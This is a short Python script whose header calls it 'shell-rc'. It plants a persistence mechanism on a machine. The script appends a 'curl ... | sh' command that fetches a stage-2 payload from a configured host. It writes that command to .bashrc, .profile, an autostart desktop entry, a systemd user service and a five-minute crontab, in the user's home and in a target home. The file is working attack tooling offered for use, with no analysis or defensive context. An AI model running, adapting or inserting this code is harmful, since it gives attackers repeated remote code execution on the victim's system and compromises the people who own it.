# shell-rc: make the next login, desktop session, user manager or cron tick
# fetch and run stage 2.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}
cmd = "curl -s http://%s:%s/stage2.sh | sh" % (T["T_TCP_HOST"], T["T_TCP_PORT"])
files = {
    ".bashrc": cmd + "\n",
    ".profile": cmd + "\n",
    ".config/autostart/update.desktop":
        '[Desktop Entry]\nType=Application\nName=update\nExec=sh -c "%s"\n' % cmd,
    ".config/systemd/user/update.service":
        '[Service]\nExecStart=/bin/sh -c "%s"\n[Install]\nWantedBy=default.target\n' % cmd,
    ".cron/crontab": "*/5 * * * * %s\n" % cmd,
}
for home in (os.path.expanduser("~"), T["T_HOME"]):
    for name, text in files.items():
        path = os.path.join(home, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as f:
                f.write(text)
            print("wrote", path)
        except OSError as e:
            print(e)
